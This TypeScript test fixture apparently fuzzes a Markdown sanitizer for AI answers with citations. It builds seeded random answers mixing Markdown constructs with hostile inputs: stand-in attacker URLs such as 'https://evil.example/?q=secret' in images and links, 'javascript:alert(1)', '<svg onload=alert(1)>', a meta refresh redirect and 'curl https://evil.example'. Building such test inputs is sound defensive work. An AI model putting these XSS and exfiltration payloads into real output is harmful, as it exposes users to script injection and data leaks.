/** Answers as no model should write them: Markdown constructs of every kind, put together and cut by a seed. */

/** Stand in the sources of `SOURCES`; no other address does. */
export const PROVED_ADDRESSES = ['https://docs.example.org/locks?a=1&b=2', '/toll.md', 'https://book.example.org/toll']
export const SOURCES: readonly { readonly text: string; readonly url: string | null }[] = [
  {
    text: 'Sluices are opened at dawn by the keeper of the lock. The manual is at https://docs.example.org/locks?a=1&b=2 and on [our page](/toll.md).',
    url: null,
  },
  {
    text: 'Each barge pays a toll of four pence at the lower gate, in coins.',
    url: 'https://book.example.org/toll#due',
  },
]

export type Random = () => number

/** Mulberry32: the same numbers in [0, 1) for the same seed. */
export function randomOf(seed: number): Random {
  let state = seed >>> 0
  return () => {
    state = (state + 0x6d2b79f5) >>> 0
    let mixed = Math.imul(state ^ (state >>> 15), state | 1)
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61)
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32
  }
}

const pick = <Item>(random: Random, items: readonly Item[]): Item => items[Math.floor(random() * items.length)] as Item

const EVIL = [
  'https://evil.example/?q=secret',
  '//evil.example/x',
  'javascript:alert(1)',
  'www.evil.example',
  'data:text/html,x',
]
const WORDS = [
  'sluices are opened',
  'at dawn',
  'the keeper',
  'pays',
  'four pence',
  'run',
  'h',
  'a',
  'x_y',
  '*very*',
  '**so**',
  '~~no~~',
]
const CODE = [
  'a[1]',
  'x = "[2]"',
  '![i](https://evil.example/c)',
  '<script>',
  'curl https://evil.example',
  '[9]',
  'a | b',
  '> no',
  '"say so here now"',
]

const inlines: readonly ((random: Random) => string)[] = [
  (random) => pick(random, WORDS),
  (random) => pick(random, WORDS),
  (random) => `[${pick(random, ['1', '2', '9', '1, 2', '7-9', '^1', 'Source 9', '1998', ' 3 '])}]`,
  (random) =>
    pick(random, [
      '【1】',
      '【9†page】',
      '\\[9\\]',
      '[&#57;]',
      '[*9*]',
      '[1][9]',
      '[[9]9]',
      '[9](https://evil.example)',
    ]),
  (random) => `![x](${pick(random, EVIL)})`,
  (random) => `![x](${pick(random, EVIL)} "a title")`,
  (random) => `[words](${pick(random, EVIL)})`,
  (random) => `[a [1] \`b\` c](<${pick(random, EVIL)}>)`,
  (random) => `[![i](${pick(random, EVIL)})](${pick(random, EVIL)})`,
  (random) => `[kept](${pick(random, PROVED_ADDRESSES)})`,
  (random) => `![kept [9]](${pick(random, PROVED_ADDRESSES)} "t")`,
  (random) => `<${pick(random, EVIL)}>`,
  (random) => pick(random, EVIL),
  () => 'someone@evil.example',
  () => 'https&#58;//evil.example',
  () => 'https\\://evil.example',
  () => '[x][y] ![x][y] [y]',
  (random) => `\`${pick(random, CODE)}\``,
  (random) => `\`\`${pick(random, CODE)}\`\``,
  (random) => `\`\`\` ${pick(random, CODE)} \`\`\``,
  (random) => pick(random, ['`', '``', '[', ']', '](', '![', '<', '>', '\\', '&', '!', '"', '|', '(', ')', ':', '【']),
  (random) =>
    pick(random, [
      '<script>',
      '</script>',
      '<svg onload=alert(1)>',
      '<meta http-equiv=refresh content="0;url=//evil.example">',
    ]),
  (random) =>
    pick(random, [
      '<img src="https://evil.example/i">',
      '<a xlink:href="//evil.example">',
      '<style>@import "//evil.example";</style>',
      '<!-- x -->',
      '<b>',
      '<br/>',
      '<?php ?>',
      '<![CDATA[x]]>',
    ]),
  () => '"Sluices are opened at dawn by the keeper of the lock."',
  () => '"Nobody ever pays anything at all here"',
  () => '“the keeper `of` the lock [1]”',
]

const inline = (random: Random): string =>
  Array.from({ length: 1 + Math.floor(random() * 5) }, () => pick(random, inlines)(random)).join(
    pick(random, [' ', ' ', ' ', '', '\n']),
  )

const fence = (random: Random): string => {
  const mark = pick(random, ['```', '```', '~~~', '````'])
  const info = pick(random, ['', 'ts', 'sh title=x', ' a`b', '{1}'])
  const lines = Array.from({ length: Math.floor(random() * 3) }, () =>
    pick(random, [...CODE, '', '  indented', '``', '~~~']),
  )
  const end = pick(random, [mark, mark, mark, `   ${mark}`, `    ${mark}`, ''])
  return [`${pick(random, ['', '', ' ', '   ', '    '])}${mark}${info}`, ...lines, ...(end === '' ? [] : [end])].join(
    '\n',
  )
}

const blocks: readonly ((random: Random) => string)[] = [
  inline,
  inline,
  inline,
  fence,
  fence,
  (random) => `    ${pick(random, CODE)}`,
  (random) => `${pick(random, ['#', '###'])} ${inline(random)}`,
  (random) => `${inline(random)}\n${pick(random, ['===', '---'])}`,
  (random) => `[y]: ${pick(random, [...EVIL, ...PROVED_ADDRESSES])}${pick(random, ['', ' "t"', '\n"t"'])}`,
  (random) => `[a\nb]: ${pick(random, EVIL)}`,
  (random) => `[^1]: ${inline(random)}`,
  (random) => `[1]: ${pick(random, [...EVIL, 'words', ...PROVED_ADDRESSES])}`,
  (random) => `| ${inline(random)} | \`${pick(random, CODE)}\` |\n|---|---|\n| ${pick(random, inlines)(random)} | b |`,
  (random) => `<!--\n${fence(random)}\n-->`,
  (random) => `<pre>\n${fence(random)}\n</pre>`,
  (random) => `<div>\n${inline(random)}\n</div>`,
  (random) => pick(random, ['***', '\t', '- ', '>', '1.']),
]

const indent = (text: string, first: string, rest: string): string => first + text.replaceAll('\n', `\n${rest}`)

function block(random: Random, depth = 0): string {
  const container = depth > 2 ? 1 : random()
  if (container < 0.1) return indent(blocksOf(random, depth + 1), '> ', '> ')
  if (container < 0.2) return indent(blocksOf(random, depth + 1), '- ', '  ')
  if (container < 0.25) return indent(blocksOf(random, depth + 1), '1. ', pick(random, ['   ', '  ']))
  return pick(random, blocks)(random)
}

const blocksOf = (random: Random, depth: number): string =>
  Array.from({ length: 1 + Math.floor(random() * 3) }, () => block(random, depth)).join(pick(random, ['\n', '\n\n']))

/** One answer. */
export const composeAnswer = (random: Random): string =>
  blocksOf(random, 0) + pick(random, ['\n', '', '\n\n']) + block(random)

/** A text in pieces, cut anywhere. */
export function cutText(text: string, random: Random): readonly string[] {
  const most = pick(random, [1, 2, 4, 16, 4000])
  const pieces: string[] = []
  for (let at = 0; at < text.length; ) {
    const length = 1 + Math.floor(random() * most)
    pieces.push(text.slice(at, at + length))
    at += length
  }
  return pieces
}
